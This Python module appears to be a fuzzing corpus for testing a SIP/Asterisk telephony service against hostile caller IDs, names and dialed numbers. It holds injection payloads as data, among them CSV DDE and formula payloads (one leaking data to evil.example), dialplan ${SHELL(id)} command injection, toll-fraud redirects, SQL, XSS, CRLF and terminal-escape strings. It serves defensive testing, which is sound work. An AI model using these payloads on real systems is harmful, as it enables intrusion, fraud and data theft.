"""What a hostile caller can put in a call: numbers, names and dialed numbers to inject with.

Each entry is what the carrier delivers, in SIP terms:

* caller numbers go in the `From` URI's user part, where SIP allows letters,
  digits, `-_.!~*'()&=+$,;?/` and `%XX` escapes (Asterisk decodes them, so
  `%1b` arrives as ESC and `%0d%0a` as CR LF);
* names go in the `From` display name, a quoted string: any UTF-8, with `\\"`
  and `\\\\` escaped, and control characters as quoted pairs (`\\<ESC>`);
* dialed numbers go in the request URI's user part, escaped as numbers are.

`sip_user()` and `sip_display()` do that encoding; the corpus itself is the
text the attacker wants to land.
"""

from __future__ import annotations

import itertools
import random
from dataclasses import dataclass
from urllib.parse import quote

ESC = "\x1b"
BEL = "\x07"

NUMBERS: dict[str, str] = {
    "plain": "+15557650001",
    "csv-formula": '=HYPERLINK("http://evil.example/?leak","Call back")',
    "csv-dde": "+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "terminal-osc": f"+1555{ESC}]0;pwned{BEL}0100",
    "terminal-clear": f"{ESC}[2J{ESC}[H+15550100",
    "crlf": "+1555\r\nX-Injected: yes",
    "dialplan-comma": "5551234,1,U(evil^s^1)",
    "dialplan-var": "${SHELL(id)}",
    "dialplan-expr": "$[1+1]",
    "dialplan-amp": "5551234&PJSIP/+19005550100@carrier-out",
    "sql": "1'); DROP TABLE journeys;--",
    "sql-or": "' OR '1'='1",
    "separators": "+1 (312) 555-0100 ext. 42",
    "dotted": "312.555.0177",
    "dashed": "caller-555-123-4567",
    "anonymous": "anonymous",
    "overlong": "9" * 300,
    "unicode": "＋１５５５０１００",  # full-width digits
    "bidi": "+1555\u202e0100",
    "nul-ish": "+1555%00",
}

NAMES: dict[str, str] = {
    "plain": "Jane Doe",
    "csv-formula": '=HYPERLINK("http://evil.example/?"&A1,"Call back")',
    "csv-dde": "+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-tab": "\t=1+1",
    "csv-semicolon": "a;=1+1;b",
    "terminal-osc": f"Jane{ESC}]0;pwned{BEL} Doe",
    "terminal-clear": f"{ESC}[2J{ESC}[HMallory",
    "terminal-c1": "\x9b31mRed",
    "bidi-override": "Bob \u202egnp.exe",
    "bidi-isolates": "\u2066Jane\u2069 \u2067Doe\u2069",
    "zero-width": "J\u200ba\u200dn\u200ce\ufeff",
    "combining-flood": "Z" + "\u0336" * 200,
    "emoji": "Jane 🚑 Doe",
    "rtl-script": "ملاك Doe",
    "cjk": "王小明",
    "overlong": "A" * 1000,
    "dialplan-comma": "Jane,1,U(evil^s^1)",
    "dialplan-var": "${SHELL(id)}${CALLERID(num)}",
    "dialplan-expr": "$[${EXTEN}]",
    "dialplan-quote": 'Jane" Doe',
    "agi-quote": '" EXEC Dial PJSIP/+19005550100@carrier-out "',
    "sql": "Robert'); DROP TABLE journeys;--",
    "json-break": '"}{"event":"forged","level":"critical',
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "backslashes": "C:\\Users\\x\\",
    "empty": "",
    "spaces": "   ",
}

# Dialed numbers the carrier might deliver: a practice's number with
# decorations, punctuation, escapes, nothing, too much.
DIDS: dict[str, str] = {
    "maple": "+13125550100",
    "maple-2": "+13125550101",
    "lakeside": "+16085550142",
    "maple-comma": "+1312555,0100",
    "maple-paren": "+1(312)555-0100",
    "maple-escaped": "%2B13125550100",
    "maple-option": "+13125550100,1,U(evil)",
    "maple-amp": "+13125550100&PJSIP/+19005550100@carrier-out",
    "maple-var": "+13125550100${SHELL(id)}",
    "maple-newline": "+1312555\n0100",
    "no-plus": "13125550100",
    "unknown": "+19995550123",
    "letters": "abc",
    "feature-code": "*22",
    "dialplan-var": "${SHELL(id)}",
    "overlong": "1" * 200,
}


def sip_user(text: str) -> str:
    """`text` as the user part of a SIP URI: what SIP allows stays, the rest is %-escaped."""
    return quote(text, safe="-_.!~*'()&=+$,;?/")


def sip_display(text: str) -> str:
    """`text` as the inside of a SIP quoted display name (RFC 3261 quoted-string)."""
    out = []
    for ch in text:
        code = ord(ch)
        if ch in '"\\':
            out.append("\\" + ch)
        elif code in (0x0A, 0x0D):
            continue  # not even a quoted pair may carry CR or LF
        elif code < 0x20 or code == 0x7F:
            out.append("\\" + ch)
        else:
            out.append(ch)
    return "".join(out)


@dataclass(frozen=True, slots=True)
class HostileCall:
    """One call of the suite: what the attacker sends, named for the report."""

    number_kind: str
    name_kind: str
    did_kind: str

    @property
    def number(self) -> str:
        return NUMBERS[self.number_kind]

    @property
    def name(self) -> str:
        return NAMES[self.name_kind]

    @property
    def did(self) -> str:
        return DIDS[self.did_kind]


def calls(count: int, seed: int = 15) -> list[HostileCall]:
    """`count` calls covering every number, name and dialed number, in a shuffled mix."""
    rng = random.Random(seed)
    combos = list(itertools.product(NUMBERS, NAMES, DIDS))
    rng.shuffle(combos)
    chosen = combos[:count]
    # Make sure each single entry is used at least once, whatever `count`.
    for kind_index, table in enumerate((NUMBERS, NAMES, DIDS)):
        used = {c[kind_index] for c in chosen}
        for i, missing in enumerate(sorted(set(table) - used)):
            combo = list(chosen[i])
            combo[kind_index] = missing
            chosen[i] = (combo[0], combo[1], combo[2])
    return [HostileCall(*c) for c in chosen]
